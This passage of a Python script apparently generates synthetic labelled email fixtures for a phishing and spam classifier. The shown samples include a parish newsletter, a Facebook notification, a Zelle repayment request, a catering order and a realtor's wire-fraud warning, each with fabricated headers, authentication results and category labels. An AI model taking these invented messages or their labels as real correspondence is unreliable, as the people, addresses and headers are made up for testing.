             "-=-=-=-=-=-=-=-=-=-=-=-\nGroups.io Links: You receive all messages sent to this group.\n"
             f"View/Reply Online (#{msgnum}): https://stbrendans.groups.io/g/news/message/{msgnum}\n"
             "Mute This Topic: https://groups.io/mt/" + topic + "/" + digits(n, "mt", 7) + "\n"
             "Group Owner: news+owner@stbrendans.groups.io\n"
             "Unsubscribe: https://stbrendans.groups.io/g/news/leave/" + digits(n, "leave", 8) + "/" + digits(n, "leave2", 7) + "/xyz\n"
             "-=-=-=-=-=-=-=-=-=-=-=-\n")
    headers = std(addr("Margaret Doyle", "mdoyle@stbrendanparish.org"), "news@stbrendans.groups.io",
                  "[stbrendans-news] Weekly News - Fall Festival, Food Pantry, Choir", sent(when, ET, 3),
                  f"<{hx(n, 'mid', 8)}-{hx(n, 'mid2', 4)}-{hx(n, 'mid3', 4)}@stbrendanparish.org>",
                  reply_to="news@stbrendans.groups.io",
                  extra_top=[f"X-Received: from mail.stbrendanparish.org ([{num(n, 'oip', 60, 99)}.{num(n, 'oip2', 1, 254)}.{num(n, 'oip3', 1, 254)}.{num(n, 'oip4', 1, 254)}]) by groups.io with SMTP; {sent(when, ET, 20)}"],
                  extra=["Precedence: Bulk", "List-Subscribe: <mailto:news+subscribe@stbrendans.groups.io>",
                         "List-Help: <mailto:news+help@stbrendans.groups.io>", "List-Id: <news.stbrendans.groups.io>",
                         "Mailing-List: list news@stbrendans.groups.io; contact news+owner@stbrendans.groups.io",
                         "List-Post: <mailto:news@stbrendans.groups.io>",
                         "List-Owner: <mailto:news+owner@stbrendans.groups.io>",
                         f"Sender: news@stbrendans.groups.io",
                         f"List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                         f"List-Unsubscribe: <https://stbrendans.groups.io/g/news/leave/{digits(n, 'leave', 8)}/{digits(n, 'leave2', 7)}/xyz>"])
    return Sample(n, "bulk", "A parish's weekly news on a small groups.io list (List-Id, Precedence: Bulk, groups.io footer): "
                  "festival volunteers, food-pantry items, Mass times and a warning that the priest never asks for gift cards",
                  "yahoo", rcpt, when, via, headers, text(plain))


@sample
def l22():
    n = "b11-legit-facebook-comment-notification"
    when = at("2025-07-12 23:18:30")
    rcpt = "brooke.sandoval@gmail.com"
    ip = f"69.171.232.{num(n, 'ip', 128, 150)}"
    host = f"69-171-232-{ip.split('.')[3]}.mail-mail.facebook.com"
    via = own_via("facebookmail.com", host, ip, f"notification+{an(n, 'nf', 12).lower()}@facebookmail.com", "s1024-2013-q3",
                  sign="Date:To:Subject:From:MIME-Version:Content-Type:Message-ID")
    nd = lambda salt: (f"https://www.facebook.com/nd/?permalink.php&amp;story_fbid=pfbid0{an(n, 'story', 50)}&amp;id=1000{digits(n, 'uid', 11)}"
                       f"&amp;aref={digits(n, salt, 16)}&amp;medium=email&amp;mid={hx(n, 'mid' + salt, 20)}&amp;n_m={rcpt.replace('@', '%40')}"
                       "&amp;rms=v2&amp;irms=true")  # noqa: E731
    html = card("Facebook", '<div style="background:#1877f2;padding:12px 32px;font-size:22px;font-weight:bold;color:#fff">facebook</div>',
                ps("Hi Brooke,",
                   "<b>Lauren Pike</b> commented on your post.",
                   "<i>\"These are gorgeous!! The one of the lake at sunset needs to be framed &#128525;\"</i>",
                   f'<a href="{nd("a1")}">See Comment</a> &nbsp;&nbsp; <a href="{nd("a2")}">Reply</a>'),
                "This message was sent to brooke.sandoval@gmail.com. If you don't want to receive these emails from Meta in the "
                f'future, please <a href="https://www.facebook.com/o.php?k={ub64(n, "opt", 20)}&amp;u=1000{digits(n, "uid", 11)}&amp;mid={hx(n, "midu", 20)}" style="color:#777">unsubscribe</a>.<br>'
                "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025")
    headers = std(addr("Facebook", "notification@facebookmail.com"), addr("Brooke Sandoval", rcpt),
                  "Lauren Pike commented on your post.", sent(when, PT, 2),
                  f"<{hx(n, 'fbmid', 40)}@facebookmail.com>",
                  extra=[f"X-Facebook: from {num(n, 'x1', 1000, 9999)}:{hx(n, 'x2', 4)}:face:b00c:0:1 ([127.0.0.1])",
                         f"X-Facebook-Notify: feed_comment; mailid={hx(n, 'mailid', 20)}", "X-FACEBOOK-PRIORITY: 1",
                         f"List-Unsubscribe: <https://www.facebook.com/o.php?k={ub64(n, 'opt', 20)}&u=1000{digits(n, 'uid', 11)}&mid={hx(n, 'midu', 20)}>",
                         "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Feedback-ID: 0:feed_comment:Facebook",
                         "Precedence: bulk", "Errors-To: notification+" + an(n, "nf", 12).lower() + "@facebookmail.com",
                         "X-Auto-Response-Suppress: All"])
    return Sample(n, "bulk", "Genuine Facebook 'commented on your post' notification from notification@facebookmail.com on "
                  "Meta's own servers, facebook.com/nd tracking links, one-click List-Unsubscribe", "gmail", rcpt, when, via,
                  headers, html_only(html))


@sample
def l23():
    n = "b11-legit-friend-zelle-concert-tickets-yahoo"
    when = at("2025-05-02 00:41:19")
    rcpt = "rayjackson_usmc@comcast.net"
    sender = "mike_delgado1985@yahoo.com"
    via = yahoo_via(sender, n)
    plain = ("Ray,\n\nGOT THEM. Four tickets for Zach Bryan at Lincoln Financial, Saturday Aug 16, section 112 row 20. Total came "
             "to $568 with the fees so it's $142 each.\n\nWhenever you get a chance just Zelle me the $142 - same as last time, "
             "my cell number (the 267 one). No rush, before the end of the month is fine. I'll forward you the tickets in the "
             "Ticketmaster app once Danny and Chris pay up too.\n\nShould we tailgate? I can bring the grill.\n\nMike\n\n"
             "Sent from Yahoo Mail for iPhone\n")
    headers = std(addr("Mike Delgado", sender), addr("Ray Jackson", rcpt), "Zach Bryan tix!!", sent(when, ET, 3),
                  f"<{num(n, 'ymid', 100000000, 999999999)}.{num(n, 'ymid2', 1000000, 9999999)}.17{digits(n, 'ymid3', 11)}@mail.yahoo.com>",
                  extra=[f"References: <{num(n, 'ymid', 100000000, 999999999)}.{num(n, 'ymid2', 1000000, 9999999)}.17{digits(n, 'ymid3', 11)}.ref@mail.yahoo.com>",
                         "X-Mailer: WebService/1.1.23737 YMailNorrin"])
    return Sample(n, "clean", "A friend's Yahoo message asking to be paid back $142 for concert tickets by Zelle to the phone "
                  "number the recipient already has, no link, no urgency; DMARC pass for yahoo.com", "comcast", rcpt, when, via,
                  headers, text(plain), pre=yahoo_pre(n, when, sender))


@sample
def l24():
    n = "b11-legit-customer-catering-order-icloud"
    when = at("2025-10-06 18:52:07")
    rcpt = "orders@copperkettlecoffee.co"
    sender = "renee.castillo@icloud.com"
    ip = f"17.57.155.{num(n, 'ip', 10, 40)}"
    host = f"st43p00im-ztdg{digits(n, 'h', 8)}.me.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=sender, spf="pass", dkim=[("icloud.com", "1a1hai", "pass")],
              dmarc="pass", policy="QUARANTINE", from_domain="icloud.com",
              sign_headers="Content-Type:From:Mime-Version:Subject:Message-Id:Date:To")
    pin = f"https://www.pinterest.com/pin/{digits(n, 'pin', 18)}/"
    plain = ("Hi there,\n\nThis is Renee Castillo - I stopped by on Saturday and talked to Jess about catering for my mom's 70th "
             "birthday brunch on Sunday, October 19 (about 25 people).\n\nWe'd like the pastry platter, two carafes of the house "
             "blend and one of decaf, and the lemon olive-oil cake. Jess said you could do a simple floral decoration on top - "
             "something like this: " + pin + "\n\nI sent the $85 deposit through Venmo to @CopperKettle-Coffee this morning "
             "(note: \"Castillo brunch 10/19\"). Could you confirm you received it and let me know the remaining balance?\n\n"
             "Pickup around 9:30 would be perfect.\n\nThank you!\nRenee\n(608) 555-0192\n\nSent from my iPhone\n")
    html = ("<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head><body dir=\"auto\">"
            "<div dir=\"ltr\">Hi there,</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">This is Renee Castillo - I stopped by on "
            "Saturday and talked to Jess about catering for my mom’s 70th birthday brunch on Sunday, October 19 (about 25 "
            "people).</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">We’d like the pastry platter, two carafes of the house "
            "blend and one of decaf, and the lemon olive-oil cake. Jess said you could do a simple floral decoration on top - "
            f"something like this: <a href=\"{pin}\">{pin}</a></div><div dir=\"ltr\"><br></div><div dir=\"ltr\">I sent the $85 "
            "deposit through Venmo to @CopperKettle-Coffee this morning (note: “Castillo brunch 10/19”). Could you confirm you "
            "received it and let me know the remaining balance?</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">Pickup around "
            "9:30 would be perfect.</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">Thank you!</div><div dir=\"ltr\">Renee</div>"
            "<div dir=\"ltr\">(608) 555-0192<br><br><div dir=\"ltr\">Sent from my iPhone</div></div></body></html>\n")
    headers = std(addr("Renee Castillo", sender), rcpt, "Catering order for Oct 19 brunch", sent(when, CT, 3),
                  f"<{guid(n, 'mid', True)}@icloud.com>", mime_version=False,
                  extra=["X-Mailer: iPhone Mail (22A3354)", "Mime-Version: 1.0 (1.0)"])
    return Sample(n, "clean", "A customer writes from iCloud (iPhone Mail) to a coffee shop's Google Workspace address about a "
                  "catering order, says she paid the deposit by Venmo herself, links a Pinterest cake picture",
                  "workspace", rcpt, when, via, headers, alt(n, "apple", plain, html))


@sample
def l25():
    n = "b11-legit-realtor-closing-wire-warning"
    when = at("2025-04-21 22:09:55")
    rcpt = "chris.halvorsen@gmail.com"
    dom = "morenohomesgroup.com"
    sender = "jessica@morenohomesgroup.com"
    via = workspace_via(dom, sender, n, dmarc="pass", policy="QUARANTINE")
    plain = ("Hi Chris,\n\nBig week! Here's where everything stands for 2217 Marlowe Ct:\n\n"
             "- Closing: Tuesday, April 29 at 10:00 AM at Lakeshore Title & Escrow, 6701 Odana Rd. Plan on about an hour.\n"
             "- Megan Alvarez (escrow officer) will send the closing documents to sign through DocuSign this week.\n"
             "- Final walkthrough: Monday the 28th at 5:30 PM. I'll meet you at the house.\n"
             "- Bring your driver's license and, if you're bringing a cashier's check instead of wiring, make it payable to "
             "Lakeshore Title & Escrow.\n\n"
             "IMPORTANT about wiring your funds: before you send any money, call Lakeshore Title yourself at the number on "
             "their website (https://www.lakeshoretitle.com) or on your purchase contract and confirm the wire instructions "
             "with Megan by voice. Neither Lakeshore nor I will ever send you new or 'updated' wire instructions by email. If "
             "you get an email like that - even one that looks like it's from me or from Megan - don't act on it, call me.\n\n"
             "Almost there!\n\nJessica Moreno\nREALTOR(R) | Moreno Homes Group\n(608) 555-0126\n")
    html = ("<div dir=\"ltr\">Hi Chris,<div><br></div><div>Big week! Here's where everything stands for 2217 Marlowe Ct:</div><ul>"
            "<li><b>Closing:</b> Tuesday, April 29 at 10:00 AM at Lakeshore Title &amp; Escrow, 6701 Odana Rd. Plan on about an "
            "hour.</li><li>Megan Alvarez (escrow officer) will send the closing documents to sign through DocuSign this week.</li>"
            "<li><b>Final walkthrough:</b> Monday the 28th at 5:30 PM. I'll meet you at the house.</li><li>Bring your driver's "
            "license and, if you're bringing a cashier's check instead of wiring, make it payable to Lakeshore Title &amp; "
            "Escrow.</li></ul><div><b>IMPORTANT about wiring your funds:</b> before you send any money, call Lakeshore Title "
            "yourself at the number on <a href=\"https://www.lakeshoretitle.com\">their website</a> or on your purchase contract "
            "and confirm the wire instructions with Megan by voice. Neither Lakeshore nor I will ever send you new or 'updated' "
            "wire instructions by email. If you get an email like that - even one that looks like it's from me or from Megan - "
            "don't act on it, call me.</div><div><br></div><div>Almost there!</div><div><br></div><div>Jessica Moreno<br>"
            "REALTOR® | Moreno Homes Group<br>(608) 555-0126</div></div>\n")
    headers = "MIME-Version: 1.0\n" + std(addr("Jessica Moreno", sender), addr("Chris Halvorsen", rcpt),
                                          "Closing next Tuesday - checklist + wire safety", sent(when, CT), gmail_msgid(n),
                                          mime_version=False)
    return Sample(n, "clean", "The buyer's realtor, from her brokerage's Google Workspace domain, sends the closing checklist and "
                  "tells him to confirm wire instructions by phone with the title company and never trust 'updated' "
                  "instructions by email", "gmail", rcpt, when, via, headers, alt(n, "gmail", plain, html),
                  pre=workspace_pre(n, when, dom))


# ==========================================================================


def main() -> None:
    lines = []
    seen = set()
    counts: dict[str, int] = {}
    for fn in SAMPLES:
        s = fn()
        assert s.name.startswith("b11-") and s.name not in seen, s.name
        seen.add(s.name)
        assert s.category in ("phishing", "clean", "bulk"), s.category
        data = render(s)
        path = MAIL / s.category / f"{s.name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        counts[s.category] = counts.get(s.category, 0) + 1
        lines.append(f"samples/mail/{s.category}/{s.name}.eml | {s.category} | {s.description}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(", ".join(f"{k}: {v}" for k, v in sorted(counts.items())), f"- {len(lines)} files, manifest {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
